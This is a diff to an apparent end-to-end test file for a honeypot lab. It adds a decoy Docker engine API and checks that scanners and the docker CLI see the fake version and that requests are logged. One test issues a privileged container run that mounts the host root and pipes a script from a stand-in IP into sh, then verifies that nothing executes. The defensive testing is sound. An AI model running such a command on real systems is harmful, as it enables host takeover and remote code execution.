@@ -1,8 +1,8 @@
 /**
  * Data, web and cloud deckies against the stock Debian clients, run from the lab fleet's
  * attacker namespace: curl (https, imaps, pop3s, smtp STARTTLS, elasticsearch, the
- * Kubernetes API), openssl s_client,  psql, python3-pymongo, kubectl
- * and nmap (-sV, ssl-cert, mongodb-info). Each client sees the version of the decky's
+ * Kubernetes API), openssl s_client,  psql, python3-pymongo, kubectl, the docker CLI with
+ * -H, and nmap (-sV, ssl-cert, mongodb-info). Each client sees the version of the decky's
  * persona, TLS ports speak TLS with the decky's one certificate (the same on every mail
  * port and after a restart), and every credential, token and command is in
  * `decnetctl events`. One fleet (e2data, 10.239.0.0/24), applied once; host id e2e-data.
@@ -25,7 +25,7 @@ const VERSION = (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as
 const IMAGE = process.env['DECNET_BASE_IMAGE'] ?? `decnet/runtime-base:${VERSION}`;
 const ENV = { DECNET_HOST_ID: 'e2e-data', DECNET_STATE_DIR: tempDir('e2data-state'), DECNET_BASE_IMAGE: IMAGE, DECNET_IMAGE_BASE: process.env['DECNET_IMAGE_BASE'] ?? IMAGE };
 const PY = '/usr/bin/python3';
-const CLIENTS = ['nmap', 'curl', 'openssl', 'psql', 'kubectl', PY];
+const CLIENTS = ['nmap', 'curl', 'openssl', 'psql', 'kubectl', 'docker', PY];
 
 const MANIFEST = `apiVersion: decnet.io/v1alpha1
 kind: Fleet
@@ -81,9 +81,10 @@ spec:
   ip: ${CLOUD}
   hostname: kube-cp-01
   nmapOS: linux
-  services: [k8s]
+  services: [k8s, docker_api]
   serviceConfig:
     k8s: { k8s_version: v1.28.6 }
+    docker_api: { docker_version: "24.0.7" }
 `;
 
 const ctl = (args: string[], timeoutMs?: number) => decnetctl(args, { env: ENV, timeoutMs });
@@ -104,7 +105,7 @@ async function certFingerprint(ip: string, port: number, starttls?: string): Pro
   return m![1]!;
 }
 
-const fleet = labFleet(ctl, FLEET, MANIFEST, { clients: CLIENTS, image: IMAGE, services: 9 });
+const fleet = labFleet(ctl, FLEET, MANIFEST, { clients: CLIENTS, image: IMAGE, services: 10 });
 beforeAll(() => fleet.up(), 900_000);
 afterAll(() => fleet.down(), 300_000);
 
@@ -143,9 +144,12 @@ describe('nmap -sV names every service', () => {
     expect(o).toMatch(/mongodb-info:[\s\S]*version = 6\.0\.14/);
   });
 
-  it('the cloud host: the Kubernetes API over TLS', async () => {
-    const o = out(await nmap('-sV', '-p', '6443', CLOUD));
+  it('the cloud host: the Kubernetes API over TLS and the Docker engine', async () => {
+    const o = out(await nmap('-sV', '-p', '6443,2375,2376', '--script', 'docker-version', CLOUD));
     expect(o).toMatch(/6443\/tcp\s+open\s+ssl\//);
+    expect(o).toMatch(/2375\/tcp\s+open\s+docker\s+Docker 24\.0\.7 \(API 1\.43\)/);
+    expect(o).toMatch(/2376\/tcp\s+open\s+ssl\/docker\s+Docker 24\.0\.7 \(API 1\.43\)/);
+    expect(o).toContain('GoVersion: go1.20.10');
   });
 });
 
@@ -284,5 +288,32 @@ describe('k8s: an anonymous client and a stolen token', () => {
     const r = await sh(`openssl s_client -connect ${CLOUD}:6443 </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer`);
     expect(r.stdout).toMatch(/subject=CN ?= ?kube-apiserver/);
     expect(r.stdout).toMatch(/issuer=CN ?= ?kubernetes/);
+  });
+});
+
+describe('docker_api: an exposed engine', () => {
+  const cfg = tempDir('e2data-docker');
+  const dockerH = (args: string) => sh(`DOCKER_CONFIG=${cfg} DOCKER_HOST= docker -H tcp://${CLOUD}:2375 ${args}`, 90_000);
+
+  it('docker -H version and ps show the persona\'s engine', async () => {
+    const v = await dockerH('version --format "{{.Server.Version}} {{.Server.APIVersion}}"');
+    expect(v.stdout.trim()).toBe('24.0.7 1.43');
+    const ps = await dockerH('ps');
+    expect(ps.stdout).toMatch(/^CONTAINER ID\s+IMAGE/);
+    await expectEvent({ decky: 'e2d-cloud', service: 'docker_api', event: 'request', docker_op: 'container_list', src_ip: SRC });
+  });
+
+  it('docker run of a miner with the host mounted: create and pull are recorded, the pull fails, nothing runs', async () => {
+    const r = await dockerH('run --rm --privileged -v /:/host alpine:3.19 chroot /host sh -c "curl -s http://198.51.100.7/x.sh | sh"');
+    expect(r.code).not.toBe(0);
+    expect(r.stderr).toContain('Error response from daemon: Get "https://registry-1.docker.io/v2/"');
+    const c = await expectEvent({ decky: 'e2d-cloud', service: 'docker_api', event: 'request', docker_op: 'container_create', image: 'alpine:3.19', privileged: true });
+    expect(String(c['technique'])).toContain('host_mount');
+    await expectEvent({ decky: 'e2d-cloud', service: 'docker_api', event: 'request', docker_op: 'image_pull', image: 'alpine:3.19' });
+  });
+
+  it('2376 speaks TLS with the same engine behind it', async () => {
+    const v = await curl('-k', `https://${CLOUD}:2376/version`);
+    expect((JSON.parse(v.stdout) as { Version: string }).Version).toBe('24.0.7');
   });
 });
